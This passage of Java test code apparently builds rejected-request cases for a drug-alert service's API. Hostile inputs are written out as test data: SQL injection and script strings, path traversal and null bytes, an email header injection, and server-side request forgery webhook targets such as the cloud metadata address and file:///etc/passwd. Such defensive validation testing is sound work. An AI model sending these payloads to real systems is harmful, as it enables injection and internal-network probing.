            }
        }
        for (var value : List.of("BOGUS", "critical'--", "<script>", "")) {
            var p = Json.copy(valid);
            p.put("hazard", value);
            invalid.add(p);
            var q = Json.copy(valid);
            q.put("class", value);
            invalid.add(q);
        }
        for (var id : List.of("other-id", "hostile-substance ", "HOSTILE-SUBSTANCE", "x".repeat(10_000), "../isotonitazene")) {
            var p = Json.copy(valid);
            p.put("id", id);
            invalid.add(p);
        }
        for (Object synonyms : List.of(Map.of(), List.of(Map.of()), List.of(""), List.of("a\u0000b"))) {
            var p = Json.copy(valid);
            p.put("synonyms", synonyms);
            invalid.add(p);
        }
        for (Object thresholds : List.of("x", List.of(), Map.of("amountMgPerUnit", "lots"), Map.of("unknown", 1),
                Map.of("purityPercent", Raw.of("1e999999")))) {
            var p = Json.copy(valid);
            p.put("thresholds", thresholds);
            invalid.add(p);
        }
        var unknown = Json.copy(valid);
        unknown.put("unknownField", true);
        invalid.add(unknown);
        var duplicateName = Json.copy(valid);
        duplicateName.put("synonyms", List.of("isotonitazen"));
        invalid.add(duplicateName);
        for (var p : invalid) {
            add("wrong-types", "analytics", "PUT", path, "OPERATOR", "application/json", Json.write(p), Expect.REJECTED, null, 0);
        }
        for (var name : List.of("", "  ", "a\u0000b", "n".repeat(201))) {
            var p = Json.copy(valid);
            p.put("name", name);
            add("control-chars-invalid-utf8", "analytics", "PUT", path, "OPERATOR", "application/json", Json.write(p), Expect.REJECTED, null, 0);
        }
        for (Object thresholds : List.of(Map.of("amountMgPerUnit", -1), Map.of("purityPercent", Raw.of("-1e999999")))) {
            var p = Json.copy(valid);
            p.put("thresholds", thresholds);
            add("huge-numbers", "analytics", "PUT", path, "OPERATOR", "application/json", Json.write(p), Expect.REJECTED, null, 0);
        }
        var other = Json.copy(valid);
        other.put("id", "hostile-other");
        jsonEndpointAttacks("analytics", "PUT", path, "OPERATOR", Json.text(other));
        strictJson("analytics", "PUT", path, "OPERATOR", () -> Json.copy(valid), "name");
        var listedHazard = Json.copy(valid);
        listedHazard.put("hazard", List.of("CRITICAL"));
        var textThreshold = Json.copy(valid);
        textThreshold.put("thresholds", Map.of("purityPercent", "50"));
        for (var p : List.of(listedHazard, textThreshold)) {
            add("wrong-types", "analytics", "PUT", path, "OPERATOR", "application/json", Json.write(p), Expect.REJECTED, null, 0);
        }
        for (var id : BAD_IDS) {
            add("path-params", "analytics", "GET", "/api/v1/watchlist/" + id, "ANALYST", null, null, Expect.REJECTED, null, 0);
            add("path-params", "analytics", "DELETE", "/api/v1/watchlist/" + id, "OPERATOR", null, null, Expect.REJECTED, null, 0);
            add("path-params", "analytics", "PUT", "/api/v1/watchlist/" + id, "OPERATOR", "application/json", Json.write(valid),
                    Expect.REJECTED, null, 0);
        }
    }

    private static final List<String> BAD_REGIONS = List.of("99", "9999", "0", "03011", "abc", "%27%20OR%20%271%27%3D%271",
            "%3Cscript%3E", "46%26days%3D1000", "46%00", "4".repeat(5000), "%FF", "-46", "46,03", "4601x");
    private static final List<String> BAD_DAYS = List.of("0", "91", "-1", "abc", "1e3", "7.5", "99999999999999999999", "%00",
            "7%27--", "0x10", "7,8", "NaN", "Infinity", "1".repeat(3000));

    private void situation() {
        for (var region : BAD_REGIONS) {
            add("query-params", "analytics", "GET", "/api/v1/situation?region=" + region, "ANALYST", null, null, Expect.REJECTED, null, 0);
            add("query-params", "alerts", "GET", "/api/v1/dashboard/situation?region=" + region, "ANALYST", null, null, Expect.REJECTED, null, 0);
        }
        for (var days : BAD_DAYS) {
            add("query-params", "analytics", "GET", "/api/v1/situation?days=" + days, "OPERATOR", null, null, Expect.REJECTED, null, 0);
            add("query-params", "alerts", "GET", "/api/v1/dashboard/situation?days=" + days, "ANALYST", null, null, Expect.REJECTED, null, 0);
        }
    }

    // ---------------------------------------------------------------- alerts (OPERATOR for actions)

    private void alerts() {
        var unknown = "00000000-0000-0000-0000-0000000000aa";
        for (var action : List.of("acknowledge", "resolve", "dismiss")) {
            for (var id : BAD_IDS) {
                add("path-params", "alerts", "POST", "/api/v1/alerts/" + id + "/" + action, "OPERATOR", "application/json",
                        "{\"note\":\"x\"}".getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
            }
            for (var body : List.of("{", "{\"note\":5}", "{\"note\":{}}", "{\"note\":[\"a\"]}", "{\"note\":\"" + "n".repeat(2001) + "\"}",
                    "{\"note\":\"" + SQL.get(1) + "\"}", "{\"note\":\"" + SCRIPT.get(0).replace("\"", "\\\"") + "\"}", "[1]", "\"x\"",
                    "{\"note\":" + "[".repeat(5000) + "]".repeat(5000) + "}")) {
                add("malformed-json", "alerts", "POST", "/api/v1/alerts/" + unknown + "/" + action, "OPERATOR", "application/json",
                        body.getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
            }
            add("wrong-content-type", "alerts", "POST", "/api/v1/alerts/" + unknown + "/" + action, "OPERATOR", "application/xml",
                    "<note>x</note>".getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
            add("oversized", "alerts", "POST", "/api/v1/alerts/" + unknown + "/" + action, "OPERATOR", "application/json",
                    ("{\"note\":\"" + "n".repeat(MAX_REQUEST_SIZE + 1000) + "\"}").getBytes(StandardCharsets.UTF_8), Expect.TOO_LARGE, null, 0);
        }
        for (var id : BAD_IDS) {
            add("path-params", "alerts", "GET", "/api/v1/alerts/" + id, "ANALYST", null, null, Expect.REJECTED, null, 0);
            add("path-params", "alerts", "GET", "/api/v1/alerts/" + id + "/cap", "ANALYST", null, null, Expect.REJECTED, null, 0);
        }
        var bad = new LinkedHashMap<String, List<String>>();
        bad.put("status", List.of("BOGUS", "OPEN,BOGUS", "%27%20OR%201%3D1", "open%00", "%3Cscript%3E", "O".repeat(5000)));
        bad.put("severity", List.of("EXTREME", "HIGH,BOGUS", "1", "%FF"));
        bad.put("minSeverity", List.of("EXTREME", "BOGUS", "%00"));
        bad.put("region", List.of("99", "9999", "abc", "%27--", "0".repeat(3000)));
        bad.put("since", List.of("yesterday", "2025-13-01", "1e99", "2025-03-01T25:00:00Z", "%00", "9".repeat(40)));
        bad.put("page", List.of("-1", "abc", "99999999999999999999", "1.5", "1e3"));
        bad.put("size", List.of("0", "501", "-5", "abc", "99999999999999999999", "1e9"));
        bad.forEach((name, values) -> values.forEach(v ->
                add("query-params", "alerts", "GET", "/api/v1/alerts?" + name + "=" + v, "ANALYST", null, null, Expect.REJECTED, null, 0)));
        for (var v : List.of("abc", "-1", "1e5", "99999999999999999999999", "%27--")) {
            add("query-params", "alerts", "GET", "/api/v1/alerts/stream?lastEventId=" + v, "ANALYST", null, null, Expect.REJECTED, null, 0);
        }
    }

    // ---------------------------------------------------------------- subscriptions (ANALYST)

    private void subscriptions() {
        var valid = new LinkedHashMap<String, Object>();
        valid.put("name", "Hostile");
        valid.put("channel", "EMAIL");
        valid.put("target", "ops@example.org");
        valid.put("filter", new LinkedHashMap<>(Map.of("regions", List.of("46"), "minSeverity", "HIGH")));
        var invalid = new ArrayList<Map<String, Object>>();
        for (var target : List.of("http://127.0.0.1:8080/hook", "https://127.0.0.1/hook", "https://localhost/hook", "https://10.0.0.1/hook",
                "https://192.168.1.1/", "https://169.254.169.254/latest/meta-data/", "https://[::1]/hook", "https://[fe80::1]/",
                "https://0x7f000001/", "https://2130706433/", "https://0/", "https://100.64.0.1/", "https://224.0.0.1/",
                "https://0.0.0.0/", "file:///etc/passwd", "javascript:alert(1)", "ftp://example.org/x", "gopher://127.0.0.1:25/",
                "", "not a url", "https://", "https://" + "a".repeat(5000) + ".example.org/", "https://[::ffff:127.0.0.1]/",
                "https://127.1/", "https://user:pass@127.0.0.1/")) {
            var p = Json.copy(valid);
            p.put("channel", "WEBHOOK");
            p.put("target", target);
            invalid.add(p);
        }
        for (var target : List.of("not-an-email", "", "a@", "@example.org", "a@b@c", "x".repeat(400) + "@example.org",
                "ops@example.org\r\nBcc: victim@example.org", "ops@[127.0.0.1]\u0000")) {
            var p = Json.copy(valid);
            p.put("target", target);
            invalid.add(p);
        }
        var filters = new ArrayList<Object>();
        filters.add(Map.of("regions", List.of("99")));
        filters.add(Map.of("regions", List.of("46' OR '1'='1")));
        filters.add(Map.of("substanceClasses", List.of("BOGUS")));
        filters.add(Map.of("substanceClasses", List.of("<script>")));
        filters.add(Map.of("substances", List.of("")));
        filters.add(Map.of("minSeverity", "EXTREME"));
        filters.add(Map.of("minSeverity", 5));
        filters.add(Map.of("rules", List.of("NOPE")));
        filters.add("x");
        filters.add(List.of());
        filters.add(Map.of("regions", java.util.Collections.nCopies(5000, "46")));
        filters.add(Map.of("substances", List.of("s".repeat(100_000))));
        for (var filter : filters) {
            var p = Json.copy(valid);
            p.put("filter", filter);
            invalid.add(p);
        }
        for (Object name : List.of("", "   ", "n".repeat(1000), Map.of(), "a\u0000b", "line\nbreak", "\u001b[2J")) {
            var p = Json.copy(valid);
            p.put("name", name);
            invalid.add(p);
        }
        for (Object channel : List.of("SMS", "webhook'--", "", 1)) {
            var p = Json.copy(valid);
            p.put("channel", channel);
            invalid.add(p);
        }
        var missingTarget = Json.copy(valid);
        missingTarget.remove("target");
        invalid.add(missingTarget);
        for (var p : invalid) {
            add("wrong-types", "alerts", "POST", "/api/v1/subscriptions", "ANALYST", "application/json", Json.write(p), Expect.REJECTED, null, 0);
        }
        jsonEndpointAttacks("alerts", "POST", "/api/v1/subscriptions", "ANALYST", Json.text(Map.of("name", "x", "channel", "EMAIL")));
        strictJson("alerts", "POST", "/api/v1/subscriptions", "ANALYST", () -> Json.copy(valid), "name");
        var numberRegion = Json.copy(valid);
        numberRegion.put("filter", Map.of("regions", List.of(46)));
        var listedChannel = Json.copy(valid);
        listedChannel.put("channel", List.of("EMAIL"));
        for (var p : List.of(numberRegion, listedChannel)) {
            add("wrong-types", "alerts", "POST", "/api/v1/subscriptions", "ANALYST", "application/json", Json.write(p), Expect.REJECTED, null, 0);
        }
        for (var id : BAD_IDS) {
            add("path-params", "alerts", "GET", "/api/v1/subscriptions/" + id, "ANALYST", null, null, Expect.REJECTED, null, 0);
            add("path-params", "alerts", "DELETE", "/api/v1/subscriptions/" + id, "ANALYST", null, null, Expect.REJECTED, null, 0);
            for (var action : List.of("test", "secret", "enable")) {
                add("path-params", "alerts", "POST", "/api/v1/subscriptions/" + id + "/" + action, "ANALYST", null, null,
                        Expect.REJECTED, null, 0);
            }
            add("path-params", "alerts", "GET", "/api/v1/subscriptions/" + id + "/deliveries", "ANALYST", null, null, Expect.REJECTED, null, 0);
        }
        for (var q : List.of("page=-1", "page=abc", "size=0", "size=201", "size=99999999999999999999", "page=1e3", "size=%00")) {
            add("query-params", "alerts", "GET", "/api/v1/subscriptions?" + q, "ANALYST", null, null, Expect.REJECTED, null, 0);
        }
    }

    // ---------------------------------------------------------------- helpers

    private void add(String category, String service, String method, String path, String credential, String contentType,
                     byte[] body, Expect expect, String secret, int records) {
        out.add(new HostileRequest(category, service, method, path, credential, contentType, body, expect, secret, records));
    }

    static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }
}
